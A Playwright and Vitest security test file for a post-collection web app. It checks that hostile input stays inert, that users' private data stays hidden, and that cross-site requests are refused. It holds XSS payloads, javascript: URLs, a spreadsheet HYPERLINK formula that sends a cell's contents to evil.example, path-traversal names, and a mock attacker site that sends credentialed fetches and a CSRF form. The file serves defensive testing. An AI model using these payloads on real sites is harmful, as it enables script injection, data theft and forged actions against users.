/** Hostile input in a real browser: it is shown as what it is, and does nothing; what is another's cannot be had by page, API or another site. */
import { createServer } from 'node:http';
import { type AddressInfo } from 'node:net';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemClock } from '../../src/core/time.ts';
import { exportPosts } from '../../src/jobs/tasks/export-posts.ts';
import { ensureWebBuilt } from '../../src/server/web-build.ts';
import { addUser } from '../../src/store/users/users.ts';
import { launchBrowser, noBrowser, openPage } from '../support/browser.ts';
import { idOf, type PostWish, storePosts } from '../support/searchable-posts.ts';
import { projectRoot, startServer, type TestServer } from '../support/server.ts';
import { type Visitor, visitor } from '../support/visitor.ts';

const webFolder = join(projectRoot, 'web');
const password = 'nine quiet herons stand';
const NOON = Date.parse('2026-11-20T12:00:00.000Z');

const MARKUP = `<img src=x onerror="window.ran=1"><script>window.ran=2</script></textarea><b onmouseover=ran=3>`;
const BIDI = 'gnp.\u202eexe\u2067turned';
const ZALGO = `Z${'\u0301\u0320\u0489\u035c'.repeat(60)}algo`;
const LONG = 'heron'.repeat(400);
const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
const CODE = '{{7*7}} ${7*7} javascript:window.ran=4 \u0007\u001b[2J \ud83d';
const SECRET = 'heronry-secret';

const by = (at: number, name: string): NonNullable<PostWish['author']> => ({
  id: String(700 + at),
  handle: `writer_${at}`,
  name,
});
const hostile: PostWish[] = [MARKUP, BIDI, ZALGO, LONG, FORMULA, CODE].map((text, at) => ({
  text,
  atMs: NOON + at,
  author: by(at, text.slice(0, 400)),
  lang: at === 0 ? '<b>en' : 'en',
  hashtags: [text.slice(0, 200)],
  links: [
    { url: 'https://t.co/x', expanded: at % 2 === 0 ? 'javascript:window.ran=5' : `https://example.org/${text}` },
  ],
  media: ['javascript:window.ran=6', 'data:text/html,<script>window.ran=7</script>', '//evil.example/x.png'],
  place: { id: `p${at}`, name: text, bbox: [1e9, -1e9, 200, 100] },
  likes: Number.MAX_SAFE_INTEGER,
}));
const secretPost: PostWish = { text: `nobody else may read ${SECRET}`, atMs: NOON + 50 };

const cleanup = new AsyncDisposableStack();
let server: TestServer;
let browser: Browser;
let [root, owner, stranger]: Visitor[] = [];

beforeAll(async () => {
  if (noBrowser !== undefined) return;
  await ensureWebBuilt({ webFolder, signal: AbortSignal.timeout(110_000) });
  server = cleanup.use(
    // Nobody listens at port 1: the platform is not asked anything here.
    await startServer({
      webFolder,
      signIn: true,
      environment: { MISTNET_X_BEARER_TOKEN: 'token', MISTNET_X_API_URL: 'http://127.0.0.1:1' },
    }),
  );
  [root, owner, stranger] = [
    await person('root', MARKUP.slice(0, 99), 'administrator'),
    await person('owner', `${BIDI} ${ZALGO}`.slice(0, 99), 'collector'),
    await person('stranger', 'w'.repeat(100), 'collector'),
  ];
  await storePosts(server, 'herons', hostile);
  await storePosts(server, SECRET, [secretPost]);
  browser = await launchBrowser();
  cleanup.defer(() => browser.close());
}, 240_000);
afterAll(() => cleanup.disposeAsync());

async function person(key: string, name: string, role: 'collector' | 'administrator'): Promise<Visitor> {
  const email = `${key}@example.org`;
  await addUser(server.db, systemClock, { email, name, role, password });
  const it = visitor(() => server.url);
  expect((await it.signIn(email, password)).body).toEqual({ next: 'in' });
  return it;
}

const must = (one: Visitor | undefined): Visitor => {
  if (one === undefined) throw new Error('nobody has signed in');
  return one;
};

/** A page with the visitor's session, which hears of everything that ran or was kept from running. */
async function openAs(one: Visitor | undefined) {
  const opened = await openPage(browser, `${server.url}/healthz`);
  const { page } = opened;
  const heard: string[] = [];
  await page.exposeFunction('hear', (what: string) => void heard.push(what));
  await page.addInitScript(
    `document.addEventListener('securitypolicyviolation', (event) => hear(event.violatedDirective + ' ' + event.blockedURI))`,
  );
  page.on('dialog', (dialog) => {
    heard.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => heard.push(`popup ${popup.url()}`));
  const cookies = [...must(one).jar].map(([name, value]) => ({ name, value, url: server.url }));
  await page.context().addCookies(cookies);
  return { ...opened, heard };
}

/** What of a stranger's ran, leads where a script could run, turned the letters around it, or sticks out of a phone's width. */
async function faultsOf(page: Page): Promise<string[]> {
  const ran = await page.evaluate('window.ran');
  const addresses = await page
    .locator('a[href], img[src]')
    .evaluateAll((found) => found.map((each) => each.getAttribute('href') ?? each.getAttribute('src') ?? ''));
  return [
    ...(ran === undefined ? [] : [`ran ${JSON.stringify(ran)}`]),
    ...addresses.filter((each) => /^\s*(javascript|data:text|vbscript|\/\/)/i.test(each)),
    ...(await page.evaluate<string[]>(TURNED)),
    ...(await page.evaluate<string[]>(WIDE)),
  ];
}

/** The innermost elements that reach beyond the page's width, where it can be scrolled sideways. */
const WIDE = `document.documentElement.scrollWidth <= innerWidth ? [] : [...document.querySelectorAll('body *')]
  .filter((each) => each.getBoundingClientRect().right > innerWidth + 1 && each.children.length === 0)
  .slice(0, 3).map((each) => 'wide ' + each.tagName + ' ' + each.className + ' ' + each.textContent.slice(0, 60))`;

/** Texts with an override that reaches what stands beside them: no element around them keeps it in. */
const TURNED = `(() => {
  const leaks = [];
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node = walk.nextNode(); node !== null; node = walk.nextNode()) {
    if (!/[\\u202d\\u202e\\u2066-\\u2068]/.test(node.data)) continue;
    for (let around = node.parentElement; around !== null; around = around.parentElement) {
      const { display, unicodeBidi } = getComputedStyle(around);
      if (/isolate|plaintext/.test(unicodeBidi) || around.textContent === node.data && display !== 'inline') break;
      if (display !== 'inline') { leaks.push(around.tagName + ' ' + around.textContent.slice(0, 120)); break; }
    }
  }
  return leaks;
})()`;

describe.skipIf(noBrowser !== undefined)(`hostile input${noBrowser === undefined ? '' : ` (${noBrowser})`}`, () => {
  it('in posts, names, words, searches and invitations is shown on every page and does nothing', async () => {
    const asRoot = must(root);
    for (const [name, words] of [
      ['odd', [`"<b>x</b>" ${'w'.repeat(60)}`, '#<svg/onload=ran=8>']],
      ['turned', ['\u202eevil', 'aa\u0301\u0301\u0301\u0301\u0301']],
    ] as const) {
      const wish = { name, kind: 'filter', definition: { words }, reason: MARKUP, start: false };
      // Refused beside the field, or kept: either way it must not run.
      expect([201, 400]).toContain((await asRoot.call('POST', '/api/v1/collections', wish)).status);
    }
    const definition = { words: ['heron <b>bold</b>'.replaceAll(/[<>/]/g, ' ')] };
    const kept = await asRoot.call('POST', '/api/v1/collections', {
      ...{ name: 'kept', kind: 'filter', definition, reason: `${MARKUP} ${BIDI} ${LONG}`.slice(0, 500), start: false },
    });
    expect([kept.status, kept.body]).toEqual([201, expect.anything()]);
    for (const name of [MARKUP, '../../etc/passwd', 'A B', `${SECRET}${'x'.repeat(99)}`, '__proto__'])
      expect((await asRoot.call('POST', '/api/v1/collections', { name, kind: 'sample' })).status, name).toBe(400);
    for (const name of [MARKUP, '..', BIDI])
      expect((await asRoot.call('POST', '/api/v1/exports', { collection: 'herons', name })).status, name).toBe(409);
    for (const [at, name] of [MARKUP, BIDI, ZALGO, LONG].map((each) => each.slice(0, 100)).entries()) {
      const search = await asRoot.call('POST', '/api/v1/saved-searches', { name, query: { q: name } });
      expect(search.status, name).toBe(200);
      const email = `guest${at}@example.org`;
      expect((await asRoot.call('POST', '/api/v1/users/invitations', { email, name, role: 'viewer' })).status).toBe(
        201,
      );
      const token = await asRoot.call('POST', '/api/v1/me/tokens', { label: name, scopes: ['read'] });
      expect([201, 400]).toContain(token.status);
    }

    // What no database can keep is refused by its field, whatever it was sent for.
    for (const [path, body, field] of [
      ['/api/v1/saved-searches', { name: 'a\0b', query: { q: 'heron' } }, 'body/name'],
      ['/api/v1/me/tokens', { label: 'cut \ud83d', scopes: ['read'] }, 'body/label'],
      ['/api/v1/users/invitations', { email: 'x@example.org', name: '\0', role: 'viewer' }, 'body/name'],
      ['/api/v1/accounts', { lines: ['heron', 'a\0b'] }, 'body/lines/1'],
    ] as const) {
      const { status, body: problem } = await asRoot.call('POST', path, body);
      expect([status, problem.errors?.[0]?.field], path).toEqual([400, field]);
    }

    await using opened = await openAs(root);
    const { page, heard, complaints, foreign } = opened;
    await page.setViewportSize({ width: 390, height: 844 });
    const faults: string[] = [];
    const odd = encodeURIComponent(MARKUP);
    for (const path of [
      ...['/', '/collections', '/collections/herons', '/collections/kept', '/posts', '/accounts', '/jobs', '/exports'],
      ...['/profile', '/admin', '/admin/users', '/admin/audit', '/admin/storage'],
      ...hostile.map((post) => `/posts/x/${idOf(post)}`),
      ...hostile.slice(0, 3).map(({ author }) => `/accounts/x/${author?.id ?? ''}`),
      // Addresses that somebody made up.
      ...[
        `/posts?q=${odd}`,
        `/posts?q=${encodeURIComponent(`"${LONG}`)}`,
        `/posts?author=${odd}&lang=${odd}&from=${odd}`,
      ],
      ...[
        `/posts?hashtag=${encodeURIComponent(BIDI)}`,
        `/posts?collection=${odd}`,
        '/posts?q=%00%ED%A0%80&from=-1e999',
      ],
      ...[`/collections/${odd}`, `/posts/x/${odd}`, `/posts/${odd}/1`],
      ...[`/accounts/x/${odd}`, `/invitation/${odd}`, `/reset-password/${odd}`, `/${odd}`, '/accounts/x/__proto__'],
      ...[`/sign-in?error=${odd}`, '/collections?search=%3Csvg%20onload%3Dran%3D9%3E&state=%00'],
    ]) {
      await page.goto(`${server.url}${path}`);
      await page.getByRole('heading', { level: 1 }).waitFor();
      // What is asked for has come, or was refused.
      await expect.poll(() => page.locator('.mantine-Skeleton-root').count(), { timeout: 20_000 }).toBe(0);
      faults.push(...(await faultsOf(page)).map((fault) => `${path.slice(0, 60)}: ${fault}`));
    }
    expect(faults).toEqual([]);
    expect(heard).toEqual([]);
    expect(foreign.filter((each) => !each.startsWith(server.url))).toEqual([]);
    expect(complaints.filter((each) => !/status of (4\d\d|503)/.test(each))).toEqual([]);
    await page.goto(`${server.url}/posts`);
    const card = page.getByRole('article', { name: 'Post by writer_0' });
    expect(await card.innerText()).toContain(MARKUP);
  }, 300_000);

  it('of forged names and ids tells nothing of what is another’s, by any route that reads', async () => {
    const [asRoot, asOwner, asStranger] = [must(root), must(owner), must(stranger)];
    const { userId } = (await asOwner.call('GET', '/api/v1/me')).body.user as { userId: string };
    const sharing = { ownerId: userId, visibility: 'private', shares: [] };
    expect((await asRoot.call('PUT', `/api/v1/collections/${SECRET}/sharing`, sharing)).status).toBe(200);
    const exported = await asOwner.call('POST', '/api/v1/exports', { collection: SECRET, name: 'export' });
    expect([exported.status, exported.body.name]).toEqual([202, `${SECRET}.export`]);
    await exportPosts(
      { db: server.db, version: '9.9.9', clock: systemClock, signal: new AbortController().signal },
      `${SECRET}.export`,
    );
    const saved = await asOwner.call('POST', '/api/v1/saved-searches', { name: SECRET, query: { collection: SECRET } });
    const postId = idOf(secretPost);
    const given: Record<string, string> = {
      ...{ name: SECRET, collection: SECRET, platform: 'x', postId, accountId: '1000001', id: '1' },
      ...{ token: 'x'.repeat(30), provider: 'x', node: 'n1', role: 'server', day: '2026-11-22', file: 'manifest.json' },
    };
    const { paths } = JSON.parse(readFileSync(join(projectRoot, 'openapi.json'), 'utf8')) as {
      paths: Record<string, Record<string, unknown>>;
    };
    const reads = Object.entries(paths).flatMap(([path, ways]) => ('get' in ways ? [path] : []));
    expect(reads.length).toBeGreaterThan(50);
    const asked = reads
      .filter((path) => !path.endsWith('/events')) // never end; one of a collection is asked below
      .map((path) => {
        const names = path.includes('/exports') ? { ...given, name: `${SECRET}.export` } : given;
        return path.replaceAll(/\{(\w+)\}/g, (_, name: string) => names[name] ?? 'none');
      });
    asked.push(`/api/v1/posts?collection=${SECRET}`, `/api/v1/posts?q=nobody`, `/api/v1/posts/facets?q=nobody`);
    asked.push(`/api/v1/posts/download?q=nobody`, `/api/v1/datasets?collection=${SECRET}`);
    const told: string[] = [];
    const near = SECRET.slice(0, -1);
    for (const path of [
      ...asked,
      ...asked.filter((each) => each.includes(SECRET)).map((each) => each.replaceAll(SECRET, near)),
    ]) {
      const cookie = cookieOf(asStranger);
      const reply = await fetch(`${server.url}${path}`, { headers: { cookie }, redirect: 'manual' });
      const text = await reply.text();
      expect(reply.status, path).toBeLessThan(500);
      // A refusal repeats the name that was asked for, as for what does not exist; nobody is told what they may have meant.
      const isRepeated = path.includes(SECRET) || path.includes(postId);
      const isTold = reply.ok || !isRepeated ? text.includes(SECRET) || text.includes(postId) : false;
      if (isTold || text.includes('nobody else')) told.push(path);
    }
    expect(told).toEqual([]);
    // What there is and what there is not is refused with the same words.
    const refusals = async (path: (name: string) => string, method = 'GET', body?: object) => {
      const [there, nowhere] = [SECRET, 'heronry-nothing'].map(async (name) => {
        const reply = await asStranger.call(method, path(name), body);
        return [reply.status, JSON.stringify(reply.body).replaceAll(name, 'NAME')];
      });
      expect(await there, `${method} ${path('')}`).toEqual(await nowhere);
      expect((await there)?.[0], `${method} ${path('')}`).toBe(404);
    };
    for (const part of [
      '',
      '/gaps',
      '/filter',
      '/filter-versions',
      '/matches',
      '/recent-posts',
      '/runs',
      '/history',
      '/fate',
      '/events',
    ])
      await refusals((name) => `/api/v1/collections/${name}${part}`);
    await refusals((name) => `/api/v1/collections/${name}/start`, 'POST');
    await refusals((name) => `/api/v1/collections/${name}/stop`, 'POST');
    await refusals((name) => `/api/v1/collections/${name}`, 'PATCH', { keep: 'files' });
    await refusals((name) => `/api/v1/collections/${name}`, 'DELETE', { name: SECRET });
    await refusals((name) => `/api/v1/collections/${name}/sharing`, 'PUT', sharing);
    for (const part of [
      'posts?',
      'posts/facets?',
      'posts/timeline?',
      'posts/places?',
      'posts/download?',
      'datasets?',
      'retention-runs?',
    ])
      await refusals((name) => `/api/v1/${part}collection=${name}`);
    await refusals((name) => `/files/exports/${name}.export/manifest.json`);
    await refusals((name) => `/files/datasets/${name}/2026-11-22/2026-11-22_report.txt`);
    await refusals((name) => `/api/v1/exports/${name}.export`);
    await refusals((name) => `/api/v1/exports/${name}.export`, 'DELETE');
    const wish = await asStranger.call('POST', '/api/v1/exports', { collection: SECRET });
    expect([wish.status, wish.body.code]).toEqual([404, 'collection.unknown']);
    const others = `/api/v1/saved-searches/${saved.body.searchId as string}`;
    expect((await asStranger.call('DELETE', others)).status).toBe(404);
    expect((await asOwner.call('DELETE', others)).status).toBe(204);
    expect((await asOwner.call('GET', `/api/v1/collections/${SECRET}`)).status).toBe(200);

    await using opened = await openAs(stranger);
    const { page, heard } = opened;
    for (const path of [
      `/collections/${SECRET}`,
      `/posts/x/${postId}`,
      `/posts?collection=${SECRET}`,
      '/exports',
      '/',
    ]) {
      await page.goto(`${server.url}${path}`);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await expect.poll(() => page.locator('.mantine-Skeleton-root').count(), { timeout: 20_000 }).toBe(0);
      expect(await page.locator('body').innerText(), path).not.toContain('nobody else may read');
    }
    await page.goto(`${server.url}/exports`);
    await page.getByText('Nothing was exported yet').waitFor();
    expect(await page.getByText(`${SECRET}.export`).count()).toBe(0);
    expect(heard).toEqual([]);
    // Not even that the name is taken.
    const taken = await asStranger.call('POST', '/api/v1/exports', { collection: 'herons', name: `${SECRET}.export` });
    expect([taken.status, taken.body.name]).toEqual([202, `herons.${SECRET}.export`]);
    expect((await asStranger.call('DELETE', `/api/v1/exports/herons.${SECRET}.export`)).status).toBe(202);
  }, 90_000);

  it('that a spreadsheet would run stays text in what the page makes for one', async () => {
    const wish = { collection: 'herons', name: 'for-excel', format: 'csv', excelSafe: true };
    expect((await must(owner).call('POST', '/api/v1/exports', wish)).status).toBe(202);
    await exportPosts(
      { db: server.db, version: '9.9.9', clock: systemClock, signal: new AbortController().signal },
      'herons.for-excel',
    );
    const headers = { cookie: cookieOf(must(owner)) };
    const reply = await fetch(`${server.url}/files/exports/herons.for-excel/herons.for-excel.csv`, { headers });
    const text = await reply.text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example`);
    expect(text).not.toMatch(/(^|,)"?[=+@-](?!""?\d+""?)/m);
    expect(reply.headers.get('content-disposition')).toMatch(/^attachment/);
    expect(reply.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(reply.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('of another site changes nothing, reads nothing and frames nothing; signing in leads to no other site', async () => {
    await using evil = await evilSite(server.url);
    await using opened = await openAs(owner);
    const { page } = opened;
    const names = async () => {
      const { body } = await must(owner).call('GET', '/api/v1/collections');
      return (body.collections as { name: string }[]).map(({ name }) => name);
    };
    const before = await names();
    // Of the same host, at another port: cookies come along, so that only the server can refuse.
    await page.goto(evil.url);
    await page.locator('#said', { hasText: 'done' }).waitFor({ timeout: 20_000 });
    const said = JSON.parse((await page.locator('#said').innerText()).slice(5)) as Record<string, string>;
    expect(said).toEqual({ read: 'TypeError', simple: 'TypeError', json: 'TypeError', remove: 'TypeError' });
    await page.locator('#form').evaluate((form: { submit(): void }) => form.submit());
    await page.waitForURL(`${server.url}/**`);
    expect(await page.locator('body').innerText()).toContain('origin.refused');
    expect(await names()).toEqual(before);
    expect((await must(owner).call('GET', '/api/v1/me')).status).toBe(200);
    await page.goto(`${evil.url}frame`);
    await expect.poll(() => page.frames().at(-1)?.url() ?? '').toMatch(/^chrome-error:/);

    await page.context().clearCookies();
    for (const to of [
      '//evil.example/x',
      '/\\evil.example',
      'javascript:window.ran=1',
      '/..//evil.example',
      '/\t/evil.example',
    ]) {
      await page.goto(`${server.url}/sign-in?to=${encodeURIComponent(to)}`);
      await page.getByLabel('E-mail address').fill('stranger@example.org');
      await page.getByRole('textbox', { name: 'Password' }).fill(password);
      await page.getByRole('button', { name: 'Sign in', exact: true }).click();
      await page.getByRole('link', { name: /^w{100}$/ }).waitFor();
      expect(new URL(page.url()).origin, to).toBe(server.url);
      expect(await page.evaluate('window.ran')).toBeUndefined();
      await page.context().clearCookies();
    }
    const offered = await must(owner).call('POST', '/api/v1/sign-in/with/x', { to: 'https://evil.example/' });
    expect(JSON.stringify(offered.body)).not.toContain('evil.example');
  }, 90_000);
});

const cookieOf = ({ jar }: Visitor) => [...jar].map(([name, value]) => `${name}=${value}`).join('; ');

/** A site whose pages try what they can with somebody who is signed in elsewhere. */
async function evilSite(target: string) {
  const script = `
    const why = (error) => error.name;
    const wish = JSON.stringify({ name: 'planted', kind: 'sample' });
    const to = ${JSON.stringify(target)};
    Promise.all([
      fetch(to + '/api/v1/me', { credentials: 'include' }).then((reply) => reply.text(), why),
      fetch(to + '/api/v1/collections', { method: 'POST', mode: 'no-cors', credentials: 'include', body: wish }).then((reply) => reply.type, why),
      fetch(to + '/api/v1/collections', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: wish }).then((reply) => reply.text(), why),
      fetch(to + '/api/v1/session', { method: 'DELETE', credentials: 'include' }).then((reply) => reply.text(), why),
    ]).then(([read, simple, json, remove]) => {
      document.querySelector('#said').textContent = 'done ' + JSON.stringify({ read, simple, json, remove });
    });`;
  const site = createServer((request, reply) => {
    reply.setHeader('content-type', 'text/html');
    reply.end(
      request.url === '/frame'
        ? `<iframe src="${target}/collections"></iframe>`
        : `<p id="said"></p><form id="form" method="post" enctype="text/plain" action="${target}/api/v1/collections/herons/stop"><input name='{"a":"' value='"}'></form><script>${script}</script>`,
    );
  });
  await new Promise<void>((resolve) => {
    site.listen(0, '127.0.0.1', resolve);
  });
  return {
    url: `http://127.0.0.1:${(site.address() as AddressInfo).port}/`,
    async [Symbol.asyncDispose]() {
      site.closeAllConnections();
      await new Promise((resolve) => {
        site.close(resolve);
      });
    },
  };
}
